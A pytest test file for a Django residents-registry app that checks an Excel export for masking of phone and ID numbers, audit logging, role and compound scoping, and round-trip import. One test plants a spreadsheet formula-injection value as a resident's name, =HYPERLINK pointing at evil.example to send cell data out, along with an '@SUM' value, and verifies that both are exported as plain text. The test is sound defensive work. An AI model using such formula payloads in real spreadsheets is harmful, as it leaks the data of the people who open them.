"""Excel export: masked unless allowed and asked for, audited every time,
scoped to the compound (and building), and readable back by the importer."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from wanjia.core.models import AuditLog
from wanjia.estates.exporter import COLUMNS
from wanjia.estates.importer import residents_import
from wanjia.estates.models import Resident
from wanjia.estates.testing import make_compound, make_resident

HEADERS = [c.header for c in COLUMNS]


def url(world, compound=None):
    return reverse("estates_export", kwargs={"compound_id": (compound or world.a).pk})


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment;" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    return [dict(zip(HEADERS, r, strict=True)) for r in rows[1:]]


def audits(action: str):
    return list(AuditLog.objects.filter(action=action))


def test_export_is_masked_by_default_and_audited(world, login):
    rows = rows_of(login(world.manager_a).post(url(world)))
    assert {r["姓名"] for r in rows} == {"张伟", "李娜"}  # compound A only
    zhang = next(r for r in rows if r["姓名"] == "张伟")
    assert zhang["手机号"] == "138****5678"
    assert zhang["身份证号"] == "1101**********002X"
    assert (zhang["楼栋"], zhang["单元"], zhang["房号"], zhang["独居"]) == (
        "1栋",
        "1单元",
        "101",
        "是",
    )
    [created] = audits("estates.export.created")
    assert created.actor == world.manager_a and created.compound == world.a
    assert created.detail["rows"] == 2 and created.detail["unmasked"] == []
    assert audits("estates.export.unmasked") == []


def test_full_numbers_when_allowed_and_asked_for_are_audited_as_a_reveal(world, login):
    rows = rows_of(login(world.manager_a).post(url(world), {"full_numbers": "1"}))
    zhang = next(r for r in rows if r["姓名"] == "张伟")
    assert zhang["手机号"] == "13812345678" and zhang["身份证号"] == "11010519491231002X"
    [reveal] = audits("estates.export.unmasked")
    assert reveal.actor == world.manager_a and reveal.detail["rows"] == 2
    assert reveal.detail["fields"] == ["phone", "id_number"]
    assert len(audits("estates.export.created")) == 1


def test_a_role_without_reveal_gets_masked_numbers_even_when_ticking(world, login):
    rows = rows_of(login(world.regulator).post(url(world), {"full_numbers": "1"}))
    zhang = next(r for r in rows if r["姓名"] == "张伟")
    assert zhang["手机号"] == "138****5678" and zhang["身份证号"] == "1101**********002X"
    assert audits("estates.export.unmasked") == []
    assert audits("estates.export.created")[0].detail["unmasked"] == []


def test_form_offers_full_numbers_only_to_who_may_reveal(world, login):
    manager = login(world.manager_a).get(url(world)).content.decode()
    regulator = login(world.regulator).get(url(world)).content.decode()
    assert 'name="full_numbers"' in manager and 'name="full_numbers"' not in regulator
    assert "2栋" in manager  # the building choice
    assert AuditLog.objects.filter(action__startswith="estates.export").count() == 0


def test_one_building(world, login):
    building = world.a.buildings.get(name="2栋")
    other = building.households.first()
    make_resident(other, "孙丽", phone="13600003333")
    rows = rows_of(login(world.manager_a).post(url(world), {"building": building.pk}))
    assert [r["姓名"] for r in rows] == ["孙丽"]
    assert audits("estates.export.created")[0].detail["building"] == building.pk


def test_a_building_of_another_compound_is_404(world, login):
    b_building = world.b.buildings.first()
    r = login(world.manager_a).post(url(world), {"building": b_building.pk})
    assert r.status_code == 404
    assert login(world.manager_a).post(url(world), {"building": "x"}).status_code == 404
    assert audits("estates.export.created") == []


@pytest.mark.parametrize(
    "persona", ["resident_a", "volunteer_a", "staff_a", "leader_a", "secretary_a"]
)
def test_roles_without_export_get_403(world, login, persona):
    client = login(getattr(world, persona))
    assert client.get(url(world)).status_code == 403
    assert client.post(url(world), {"full_numbers": "1"}).status_code == 403
    assert AuditLog.objects.filter(action__startswith="estates.export").count() == 0


def test_another_compound_is_404(world, login):
    client = login(world.outsider_b)
    assert client.get(url(world)).status_code == 404
    assert client.post(url(world)).status_code == 404
    assert login(world.manager_a).post(url(world, world.b)).status_code == 404
    assert AuditLog.objects.filter(action__startswith="estates.export").count() == 0


def test_full_export_imports_back_into_a_new_compound(world, login, tmp_path):
    from wanjia.core.roles import Role
    from wanjia.estates.testing import grant

    # exported from the English pages: values stay Chinese, so they read back
    response = login(world.manager_a).post(
        url(world), {"full_numbers": "1"}, headers={"Accept-Language": "en"}
    )
    assert response["Content-Language"] == "en"
    content = response.content
    path = tmp_path / "export.xlsx"
    path.write_bytes(content)
    target = make_compound("新家园", buildings=0)
    grant(world.manager_a, Role.COMPOUND_MANAGER, target)
    result = residents_import(actor=world.manager_a, compound=target, path=path)
    assert result.ok, result.errors
    copied = Resident.objects.get(compound=target, name="张伟")
    assert copied.phone == "13812345678" and copied.id_number == "11010519491231002X"
    assert copied.lives_alone and copied.household.label == "1栋-1单元-101"
    assert Resident.objects.filter(compound=target).count() == 2


def test_text_that_looks_like_a_formula_is_exported_as_text(world, login, tmp_path):
    """A resident named ``=HYPERLINK(...)`` must not become a live link in the
    office's sheet; numbers (a basement floor of -1) stay numbers; and the
    sheet still imports back to the same name."""
    from wanjia.core.roles import Role
    from wanjia.core.testing import grant

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    world.home.floor = -1
    world.home.save(update_fields=["floor"])
    make_resident(world.home, name=evil, emergency_contacts=[{"name": "@SUM(1+1)", "phone": ""}])
    response = login(world.manager_a).post(url(world), {"full_numbers": "1"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[7].value))
    cells = dict(zip(header, row, strict=True))
    assert cells["姓名"].value == "'" + evil and cells["姓名"].data_type == "s"
    assert cells["紧急联系人"].value == "'@SUM(1+1)"
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    assert cells["楼层"].value == -1 and cells["楼层"].data_type == "n"

    path = tmp_path / "export.xlsx"
    path.write_bytes(response.content)
    target = make_compound("新家园", buildings=0)
    grant(world.manager_a, Role.COMPOUND_MANAGER, target)
    result = residents_import(actor=world.manager_a, compound=target, path=path)
    assert result.ok, result.errors
    assert Resident.objects.filter(compound=target, name=evil).exists()
